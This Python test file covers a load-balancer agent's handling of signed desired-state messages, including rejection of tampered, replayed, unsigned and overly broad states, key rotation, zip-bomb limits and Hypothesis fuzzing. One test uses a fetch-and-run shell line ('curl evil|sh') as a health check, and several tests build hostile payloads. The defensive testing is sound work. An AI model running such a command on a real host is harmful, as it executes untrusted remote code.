"""The agent's trust boundary: what arrives on its queue is verified, validated, then applied - or rejected
with an error event and nothing changed (not the state file, not the kernel), and the agent keeps serving.

The agent runs for real (its Redis events, its state directory, its reconcile path) on a memory kernel with
the host's settings (VIPs, masquerade, ip_forward) recorded instead of applied, so no test here touches the
machine's network. The attacks of issue 12 are replayed first, then Hypothesis throws >= 10,000 generated
and mutated states at `receive` and checks after every one that a valid state still applies.
"""

from __future__ import annotations

import base64
import copy
import json
import os
import shutil
import tempfile
import zlib
from collections import Counter

import pytest
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st

from director import host as host_mod
from director import signing
from director.agent import Agent
from director.health.registry import build_checker
from director.ipvs.plan import Reconciler
from director.schema import CHECKTYPES, REVISION_MAX

from .fakekernel import MemoryKernel

NAME = "d1"


class RecordingEngine:
    """Stands in for the health engine (no probes to fuzzed addresses): builds each service's checker, as the
    engine would, and counts any checker that cannot be built from a state the validator let through."""

    def __init__(self):
        self.updates = 0
        self.checker_errors: list[str] = []

    def start(self):
        pass

    def stop(self, timeout: float = 10.0):
        pass

    def results(self):
        return {}

    def update(self, services, timeout: float = 10.0):
        self.updates += 1
        for svc in services:
            try:
                build_checker(svc.check, svc.protocol)
            except Exception as exc:  # noqa: BLE001 - counted and asserted on
                self.checker_errors.append(f"{svc.key}: {exc!r}")


@pytest.fixture
def host(monkeypatch):
    """The host settings the agent asked for, instead of changing this machine's."""
    calls = []
    monkeypatch.setattr(
        host_mod.vip,
        "ensure",
        lambda ifname, vips, netns=None: calls.append(("vips", ifname, list(vips))) or {},
    )
    monkeypatch.setattr(
        host_mod.netfilter,
        "ensure_masquerade",
        lambda ifname, subnets, netns=None: calls.append(("masquerade", ifname, list(subnets))) or "",
    )
    monkeypatch.setattr(
        host_mod.sysctl,
        "set_ip_forward",
        lambda on, netns=None, ipv6=False: calls.append(("ip_forward", on)),
    )
    return calls


@pytest.fixture
def central(tmp_path):
    return signing.KeyRing(str(tmp_path / "central-keys"))


@pytest.fixture
def lone_agent(tmp_path, redis_url, redis_client, host, central, monkeypatch):
    trust = tmp_path / "central.pub"
    trust.write_text(signing.public_line(central.ensure().public_key()) + "\n")
    # the state directory in memory where there is a tmpfs: the fuzz test fsyncs some 40,000 times
    state_dir = tempfile.mkdtemp(prefix="umw-agent-", dir="/dev/shm" if os.path.isdir("/dev/shm") else None)
    a = Agent(NAME, state_dir, redis_url, trust_file=str(trust))
    a.host.wire = a.wire = MemoryKernel()
    a.host.reconciler = Reconciler(a.wire)
    a.engine = RecordingEngine()
    monkeypatch.setattr(a.pair, "update", lambda wanted: None)  # no pair traffic from a unit test
    yield a
    shutil.rmtree(state_dir, ignore_errors=True)


def state(revision: int, director: str = NAME, **changes) -> dict:
    base = {
        "director": director,
        "revision": revision,
        "wan_interface": "wan",
        "lan_interface": "lan",
        "ip_forward": True,
        "masquerade": ["192.168.1.0/24"],
        "vips": ["172.16.10.52/32"],
        "services": [
            {
                "protocol": "tcp",
                "address": "172.16.10.52",
                "port": 80,
                "check": {"checktype": "negotiate", "service": "http", "request": "/", "receive": "ok"},
                "reals": [{"address": "192.168.1.4", "port": 80}, {"address": "192.168.1.5", "port": 80}],
            }
        ],
        "failover": None,
    }
    base.update(changes)
    return base


def signed(central, doc, director: str = NAME, job_id=None) -> dict:
    revision = doc.get("revision") if isinstance(doc, dict) else None
    return central.sign(director=director, revision=revision, state=doc, job_id=job_id)


def disk(a: Agent) -> bytes | None:
    try:
        with open(a.desired_path, "rb") as f:
            return f.read()
    except FileNotFoundError:
        return None


def last_event(a: Agent, redis_client) -> dict:
    a.events.flush(a.redis)
    _, fields = redis_client.xrevrange(f"umw:events:{NAME}", count=1)[0]
    return {**fields, "data": json.loads(fields["data"])}


def assert_rejected(a: Agent, result: dict, redis_client, before: tuple, reason: str) -> None:
    assert result["errors"] and reason in result["errors"][0], result
    assert (disk(a), a.revision, a.wire.table) == before  # nothing saved, nothing applied
    event = last_event(a, redis_client)
    assert event["kind"] == "apply" and event["level"] == "error" and reason in event["message"]
    assert event["data"]["revision"] == a.revision  # a rejection never claims a revision


def snapshot_of(a: Agent) -> tuple:
    return (disk(a), a.revision, dict(a.wire.table))


# -- the attacks of issue 12 ---------------------------------------------------------------------------------
def test_it_applies_a_state_signed_for_it(lone_agent, central, host):
    result = lone_agent.receive(signed(central, state(1), job_id=7))
    assert result["errors"] == [] and result["job_id"] == 7 and lone_agent.revision == 1
    (svc,) = lone_agent.wire.table.values()
    assert {d.address for d in svc.dests} == {"192.168.1.4", "192.168.1.5"}
    assert ("vips", "wan", ["172.16.10.52/32"]) in host


@pytest.mark.parametrize(
    "message, reason",
    [
        (lambda c: state(2), "unsigned desired state"),
        (lambda c: signed(c, state(2, director="d2"), director="d2"), "is for director 'd2'"),
        (lambda c: signed(signing.KeyRing(c.dir + "-evil"), state(2)), "signed by unknown key"),
        (
            lambda c: {
                **signed(c, state(2)),
                "payload": signed(c, state(2))["payload"].replace("192.168.1.5", "6.6.6.6"),
            },
            "bad signature",
        ),
        (lambda c: signed(c, state(2, vips=["0.0.0.0/0"])), "vips[0]: 0.0.0.0 cannot be a VIP"),
        (lambda c: signed(c, state(2, masquerade=["0.0.0.0/0"])), "too wide to masquerade"),
        (lambda c: signed(c, state(999999999999999999999)), "revision: must be 1..9007199254740992"),
        (lambda c: signed(c, state("3")), "revision: must be an integer"),
        (
            lambda c: signed(c, state(1, ip_forward=False)),
            "revision 1 is not newer than the applied revision 1",
        ),
    ],
    ids=[
        "unsigned",
        "other-director",
        "unknown-key",
        "tampered",
        "vip-everything",
        "nat-everything",
        "huge-revision",
        "text-revision",
        "replay",
    ],
)
def test_it_rejects_the_attacks_and_changes_nothing(lone_agent, central, redis_client, message, reason):
    lone_agent.receive(signed(central, state(1)))
    before = snapshot_of(lone_agent)
    result = lone_agent.receive(message(central))
    assert_rejected(lone_agent, result, redis_client, before, reason)
    assert lone_agent.receive(signed(central, state(2)))["errors"] == []  # and it still serves


def test_it_refuses_external_checks_unless_the_director_allows_them(lone_agent, central, redis_client):
    lone_agent.receive(signed(central, state(1)))
    before = snapshot_of(lone_agent)
    evil = state(2)
    evil["services"][0]["check"] = {"checktype": "external", "external": "/bin/sh -c 'curl evil|sh'"}
    result = lone_agent.receive(signed(central, evil))
    assert_rejected(lone_agent, result, redis_client, before, "external checks are disabled on this director")
    lone_agent.external_dir = "/usr/lib/ultramonkey/checks"
    result = lone_agent.receive(signed(central, evil))
    assert_rejected(lone_agent, result, redis_client, before, "/bin/sh is not in the allowed directory")


def test_it_does_not_wedge_on_a_non_dict_reals_or_a_non_latin1_virtualhost(lone_agent, central, redis_client):
    for bad, reason in (
        ({"reals": {"192.168.1.4": 80}}, "services[0].reals: must be a list"),
        (
            {"check": {"service": "http", "virtualhost": "\u00e9xample.com"}},
            "virtualhost: must be printable ASCII",
        ),
    ):
        doc = state(lone_agent.revision + 1)
        doc["services"][0].update(bad)
        before = snapshot_of(lone_agent)
        assert_rejected(lone_agent, lone_agent.receive(signed(central, doc)), redis_client, before, reason)
        assert lone_agent.receive(signed(central, state(lone_agent.revision + 1)))["errors"] == []


def test_it_accepts_a_re_delivered_state_without_a_change(lone_agent, central):
    message = signed(central, state(4), job_id=9)
    assert lone_agent.receive(message)["errors"] == []
    calls = list(lone_agent.wire.calls)
    again = lone_agent.receive(message)
    assert again["errors"] == [] and again["revision"] == 4 and lone_agent.wire.calls == calls


def test_it_does_not_restore_after_a_restart_a_state_it_would_now_refuse(
    lone_agent, central, tmp_path, redis_client
):
    lone_agent.receive(signed(central, state(1)))
    with open(lone_agent.desired_path, "w") as f:  # someone edited the file, or an old agent wrote it
        json.dump(state(2, vips=["0.0.0.0/0"]), f)
    lone_agent.desired = None
    lone_agent.reporter.loop = lambda stop: None
    lone_agent._flip_loop = lambda: None
    lone_agent.start()
    assert lone_agent.desired is None
    lone_agent.events.flush(lone_agent.redis)
    assert any(
        "saved desired state not restored" in f["message"]
        for _, f in redis_client.xrange(f"umw:events:{NAME}")
    )
    lone_agent._stop.set()


# -- key rotation -------------------------------------------------------------------------------------------
def test_it_follows_a_key_rotation_and_drops_the_old_key_after_the_window(lone_agent, central):
    assert lone_agent.receive(signed(central, state(1)))["errors"] == []
    old = central.ensure()
    central.rotate(overlap=3600)  # new key signs, old key co-signs: the agent learns the new one
    assert lone_agent.receive(signed(central, state(2)))["errors"] == []
    assert len(lone_agent.trust.keys()) == 2
    central.retire()  # only the new key signs, and the agent is told to trust only it
    assert lone_agent.receive(signed(central, state(3)))["errors"] == []
    assert list(lone_agent.trust.keys()) == [signing.key_id(central.ensure().public_key())]
    stolen = signing.sign_payload(json.loads(signed(central, state(4))["payload"]), [old])
    result = lone_agent.receive(stolen)
    assert "signed by unknown key" in result["errors"][0] and lone_agent.revision == 3


def test_it_lets_a_hand_edited_trust_file_win_over_learned_keys(lone_agent, central, tmp_path):
    lone_agent.receive(signed(central, state(1)))
    central.rotate(overlap=3600)
    lone_agent.receive(signed(central, state(2)))
    replacement = signing.KeyRing(str(tmp_path / "new-central"))
    with open(lone_agent.trust.trust_file, "w") as f:  # the operator re-pins after a leak
        f.write(signing.public_line(replacement.ensure().public_key()) + "\n")
    assert "signed by unknown key" in lone_agent.receive(signed(central, state(3)))["errors"][0]
    assert lone_agent.receive(signed(replacement, state(3)))["errors"] == []


# -- Hypothesis: generated and mutated states ------------------------------------------------------------------
JSON = st.recursive(
    st.none() | st.booleans() | st.integers() | st.floats() | st.text(max_size=20),
    lambda inner: st.lists(inner, max_size=4) | st.dictionaries(st.text(max_size=8), inner, max_size=4),
    max_leaves=6,
)
ADDRESS = st.sampled_from(["192.168.1.4", "192.168.1.5", "10.0.0.9", "2001:db8::4", "0.0.0.0", "127.0.0.1"])
CHECK = st.fixed_dictionaries(
    {},
    optional={
        "checktype": st.sampled_from([*CHECKTYPES, "3", "0", "1001", "x"]),
        "service": st.sampled_from(["none", "http", "https", "dns", "mysql", "radius", "gopher"]),
        "virtualhost": st.text(max_size=12),
        "request": st.text(max_size=12),
        "receive": st.text(max_size=12),
        "checkport": st.integers(-2, 70000) | st.none(),
        "checkinterval": st.floats(allow_nan=True),
        "failurecount": st.integers(-1, 2000),
        "expected_status": st.lists(st.integers(0, 700), max_size=3),
        "external": st.text(max_size=12),
    },
)
REAL = st.fixed_dictionaries(
    {"address": ADDRESS},
    optional={
        "port": st.integers(-1, 70000),
        "weight": st.integers(-1, 70000),
        "forwarding": st.sampled_from(["masq", "gate", "ipip", "tun"]),
        "admin_state": st.sampled_from(["active", "draining", "maintenance", "gone"]),
        "u_threshold": st.integers(0, 10),
        "l_threshold": st.integers(0, 10),
    },
)
SERVICE = st.fixed_dictionaries(
    {"protocol": st.sampled_from(["tcp", "udp", "sctp", "fwmark", "icmp"])},
    optional={
        "address": ADDRESS,
        "port": st.integers(-1, 70000),
        "fwmark": st.integers(0, 5),
        "family": st.sampled_from([4, 6, 5]),
        "scheduler": st.sampled_from(["wlc", "rr", "sh", "mh", "nope"]),
        "flags": st.lists(st.sampled_from(["sh-port", "ops", "mh-fallback", "bogus"]), max_size=2),
        "persistence": st.integers(-1, 100000),
        "netmask": st.sampled_from(["", "24", "255.255.255.0", "129", "x"]),
        "check": CHECK,
        "fallback": st.none() | REAL,
        "reals": st.lists(REAL, max_size=4),
    },
)
REVISION = st.integers(-5, 10**6) | st.sampled_from([0, 2**53 + 1, 10**30]) | JSON
STATE = st.fixed_dictionaries(
    {"director": st.sampled_from([NAME, NAME, "d2", "d1 ", ""]), "revision": REVISION},
    optional={
        "wan_interface": st.sampled_from(["wan", "", "eth0", "a" * 16, "x;y"]),
        "ip_forward": st.booleans() | JSON,
        "masquerade": st.lists(
            st.sampled_from(["192.168.1.0/24", "0.0.0.0/0", "10.0.0.0/8", "x"]), max_size=2
        ),
        "vips": st.lists(
            st.sampled_from(["172.16.10.52/32", "0.0.0.0/0", "2001:db8::1/128", "1.2.3.4/1"]), max_size=3
        ),
        "services": st.lists(SERVICE, max_size=3),
        "failover": st.none()
        | st.fixed_dictionaries(
            {"local_address": ADDRESS, "peer_address": ADDRESS, "secret": st.text(max_size=5)},
            optional={"priority": st.integers(0, 300), "port": st.integers(0, 70000)},
        ),
    },
)


NEXT = "<next revision>"  # replaced by the agent's revision + a drawn step when the state is sent
V_REAL = st.fixed_dictionaries(
    {"address": st.sampled_from(["192.168.1.4", "192.168.1.5", "192.168.1.6"])},
    optional={
        "port": st.integers(0, 65535),
        "weight": st.integers(0, 65535),
        "forwarding": st.sampled_from(["masq", "gate", "ipip"]),
        "admin_state": st.sampled_from(["active", "draining", "maintenance"]),
    },
)
VALID = st.fixed_dictionaries(
    {"director": st.just(NAME), "revision": st.just(NEXT)},
    optional={
        "wan_interface": st.sampled_from(["wan", "", "eth0"]),
        "ip_forward": st.booleans(),
        "masquerade": st.lists(st.sampled_from(["192.168.1.0/24", "10.1.0.0/16"]), max_size=2, unique=True),
        "vips": st.lists(st.sampled_from(["172.16.10.52/32", "2001:db8::1/128"]), max_size=2, unique=True),
        "services": st.lists(
            st.fixed_dictionaries(
                {
                    "protocol": st.sampled_from(["tcp", "udp"]),
                    "address": st.just("172.16.10.52"),
                    "port": st.integers(1, 65535),
                },
                optional={
                    "scheduler": st.sampled_from(["wlc", "rr", "sh"]),
                    "persistence": st.integers(0, 3600),
                    "check": st.fixed_dictionaries(
                        {},
                        optional={
                            "checktype": st.sampled_from(["connect", "negotiate", "ping", "on", "off", "3"]),
                            "service": st.sampled_from(["none", "http", "https", "dns", "mysql", "radius"]),
                            "virtualhost": st.sampled_from(["", "www.example.com"]),
                            "checkinterval": st.floats(0.05, 60),
                            "failurecount": st.integers(1, 10),
                            "expected_status": st.lists(st.integers(100, 599), max_size=3),
                        },
                    ),
                    "reals": st.lists(V_REAL, max_size=4),
                },
            ),
            max_size=3,
            unique_by=lambda svc: (svc["protocol"], svc["port"]),
        ),
    },
)


@st.composite
def mutated(draw, base=STATE):
    """A generated state, then a few random edits anywhere in it: a value replaced by any JSON, a key
    dropped or added, a list turned into a dict."""
    doc = draw(base)
    for _ in range(draw(st.integers(0, 3))):
        path = []
        node = doc
        while isinstance(node, dict | list) and node and draw(st.booleans()):
            key = draw(
                st.sampled_from(sorted(node, key=str) if isinstance(node, dict) else list(range(len(node))))
            )
            path.append(key)
            node = node[key]
        parent = doc
        for key in path[:-1]:
            parent = parent[key]
        action = draw(st.sampled_from(["replace", "drop", "add"]))
        if not path:
            if isinstance(doc, dict) and action == "add":
                doc[draw(st.text(max_size=6))] = draw(JSON)
            continue
        if action == "replace":
            parent[path[-1]] = draw(JSON)
        elif action == "drop" and isinstance(parent, dict):
            del parent[path[-1]]
        elif isinstance(parent, dict):
            parent[draw(st.text(max_size=6))] = draw(JSON)
    return doc


ENVELOPE = st.sampled_from(
    ["signed", "signed", "signed", "signed", "unsigned", "other-director", "tampered", "garbage"]
)


def test_it_survives_ten_thousand_generated_and_mutated_states(lone_agent, central, capsys):
    """receive -> validate -> apply for >= 10,000 states: no exception escapes, and after every one a valid
    state still applies (no wedge). Figures are printed for the issue's closing note."""
    agent = lone_agent
    figures = Counter()

    @settings(
        max_examples=int(os.environ.get("UMW_FUZZ_STATES", "10000")),
        deadline=None,
        database=None,
        derandomize=True,
        suppress_health_check=list(HealthCheck),
    )
    @given(
        doc=st.one_of(VALID, mutated(VALID), mutated(STATE), JSON),
        how=ENVELOPE,
        step=st.sampled_from([1, 1, 2, 0, -1]),
    )
    def one(doc, how, step):
        figures["states"] += 1
        if isinstance(doc, dict) and doc.get("revision") == NEXT:
            doc["revision"] = agent.revision + step
        try:
            if how == "signed":
                message = signed(central, doc)
            elif how == "unsigned":
                message = doc
            elif how == "other-director":
                message = signed(central, doc, director="d2")
            elif how == "tampered":
                message = signed(central, doc)
                message["payload"] = message["payload"][:-2] + " }"
            else:
                message = {"payload": doc, "signatures": doc}
        except ValueError:  # NaN/infinity: the central side cannot even sign it (strict JSON), send it raw
            figures["unsignable"] += 1
            message = doc
        before = snapshot_of(agent)
        try:
            result = agent.receive(copy.deepcopy(message))
        except Exception as exc:  # noqa: BLE001 - the figure this test exists for
            figures["exceptions"] += 1
            raise AssertionError(f"receive raised {exc!r} for {message!r}") from exc
        if result["errors"]:
            figures["rejected"] += 1
            assert snapshot_of(agent) == before, "a rejected state changed the disk, revision or kernel"
        else:
            figures["applied"] += 1
        follow = agent.revision + 1
        assert follow <= REVISION_MAX
        ok = agent.receive(signed(central, state(follow)))
        if ok["errors"] or agent.revision != follow:
            figures["wedged"] += 1
            raise AssertionError(f"wedged after {message!r}: {ok}")
        assert len(agent.wire.table) == 1

    one()
    with capsys.disabled():
        print(
            f"\nagent fuzz: {figures['states']} states, {figures['rejected']} rejected, "
            f"{figures['applied']} applied, exceptions {figures['exceptions']}, wedges {figures['wedged']}, "
            f"checker errors {len(agent.engine.checker_errors)}"
        )
    assert figures["states"] >= int(os.environ.get("UMW_FUZZ_STATES", "10000"))
    assert figures["exceptions"] == 0 and figures["wedged"] == 0
    assert agent.engine.checker_errors == []


# -- a large state travels compressed (issue 17): signed as the compressed bytes, verified before it is
# inflated, inflated to at most MAX_PAYLOAD bytes ------------------------------------------------------------
def big_state(revision: int, services: int = 20, reals: int = 100) -> dict:
    """`services` services of `reals` reals each: a payload well over signing.COMPRESS_ABOVE."""
    return state(
        revision,
        vips=[f"172.16.11.{s + 1}/32" for s in range(services)],
        services=[
            {
                "protocol": "tcp",
                "address": f"172.16.11.{s + 1}",
                "port": 80,
                "reals": [
                    {"address": f"192.168.{2 + r // 250}.{1 + r % 250}", "port": 80} for r in range(reals)
                ],
            }
            for s in range(services)
        ],
    )


def raw_signed(central, data: bytes, **envelope) -> dict:
    """An envelope around `data` signed by the central key as is (no canonical JSON made here)."""
    key = central.ensure()
    sig = {"key": signing.key_id(key.public_key()), "sig": base64.b64encode(key.sign(data)).decode()}
    return {**envelope, "signatures": [sig]}


def payload_of(doc: dict, revision: int = 1) -> bytes:
    payload = {"type": signing.PAYLOAD_TYPE, "director": "d1", "revision": revision, "signed_at": 0,
               "job_id": None, "state": doc, "trust": None}  # fmt: skip
    return signing.canonical(payload).encode()


def test_it_applies_a_large_state_sent_compressed(lone_agent, central):
    doc = big_state(1)
    message = signed(central, doc)
    assert "payload" not in message
    text = signing.canonical(json.loads(zlib.decompress(base64.b64decode(message["payload_zlib"]))))
    assert len(text) > signing.COMPRESS_ABOVE and len(message["payload_zlib"]) < len(text) / 5
    result = lone_agent.receive(message)
    assert result["errors"] == [] and lone_agent.revision == 1
    assert sum(len(svc.dests) for svc in lone_agent.wire.table.values()) == 20 * 100


def test_it_keeps_small_states_readable(central):
    message = signed(central, state(1))
    assert "payload_zlib" not in message and json.loads(message["payload"])["revision"] == 1


def test_it_rejects_compressed_bytes_changed_after_signing(lone_agent, central, redis_client):
    message = signed(central, big_state(2))
    blob = zlib.compress(
        zlib.decompress(base64.b64decode(message["payload_zlib"])), 1
    )  # same text, other bytes
    before = snapshot_of(lone_agent)
    result = lone_agent.receive({**message, "payload_zlib": base64.b64encode(blob).decode()})
    assert_rejected(lone_agent, result, redis_client, before, "bad signature")


def test_it_does_not_inflate_what_no_trusted_key_signed(lone_agent, central, redis_client):
    bomb = zlib.compress(b" " * (signing.MAX_PAYLOAD + 1), 9)
    stranger = signing.KeyRing(central.dir + "-evil")
    message = raw_signed(stranger, bomb, payload_zlib=base64.b64encode(bomb).decode())
    before = snapshot_of(lone_agent)
    assert_rejected(lone_agent, lone_agent.receive(message), redis_client, before, "signed by unknown key")


def test_it_stops_inflating_a_signed_zip_bomb(lone_agent, central, redis_client):
    bomb = zlib.compress(b" " * (signing.MAX_PAYLOAD + (1 << 20)), 9)  # ~65 KB that inflate to 65 MiB
    assert len(bomb) < 1 << 20
    message = raw_signed(central, bomb, payload_zlib=base64.b64encode(bomb).decode())
    before = snapshot_of(lone_agent)
    assert_rejected(
        lone_agent, lone_agent.receive(message), redis_client, before, "inflates to more than 64 MiB"
    )


def test_it_rejects_a_cut_or_padded_stream(lone_agent, central, redis_client):
    whole = zlib.compress(payload_of(big_state(3), 3))
    for blob in (whole[:-10], whole + b"trailing"):
        message = raw_signed(central, blob, payload_zlib=base64.b64encode(blob).decode())
        before = snapshot_of(lone_agent)
        assert_rejected(
            lone_agent, lone_agent.receive(message), redis_client, before, "one whole zlib stream"
        )


def test_it_rejects_an_envelope_with_both_forms(lone_agent, central, redis_client):
    message = signed(central, big_state(4))
    before = snapshot_of(lone_agent)
    result = lone_agent.receive({**message, "payload": "{}"})
    assert_rejected(lone_agent, result, redis_client, before, "payload or payload_zlib, not both")


def test_it_rejects_oversized_compressed_text_before_decoding(lone_agent, central, redis_client):
    message = {"payload_zlib": "A" * (signing.MAX_COMPRESSED + 4), "signatures": [{"key": "x", "sig": ""}]}
    before = snapshot_of(lone_agent)
    assert_rejected(lone_agent, lone_agent.receive(message), redis_client, before, "at most 16 MiB")


@settings(max_examples=200, deadline=None, suppress_health_check=list(HealthCheck))
@given(
    data=st.one_of(
        st.binary(max_size=2000),
        st.binary(max_size=2000).map(zlib.compress),
        st.text(max_size=500).map(lambda t: zlib.compress(t.encode("utf-8", "surrogatepass"))),
    )
)
def test_it_rejects_any_signed_garbage_without_raising(lone_agent, central, redis_client, data):
    """Whatever a trusted key signed, bytes that are not a valid compressed desired state are an error
    event and nothing else (a valid one cannot come out of these strategies: no payload type)."""
    message = raw_signed(central, data, payload_zlib=base64.b64encode(data).decode())
    before = snapshot_of(lone_agent)
    result = lone_agent.receive(message)
    assert result["errors"] and snapshot_of(lone_agent) == before
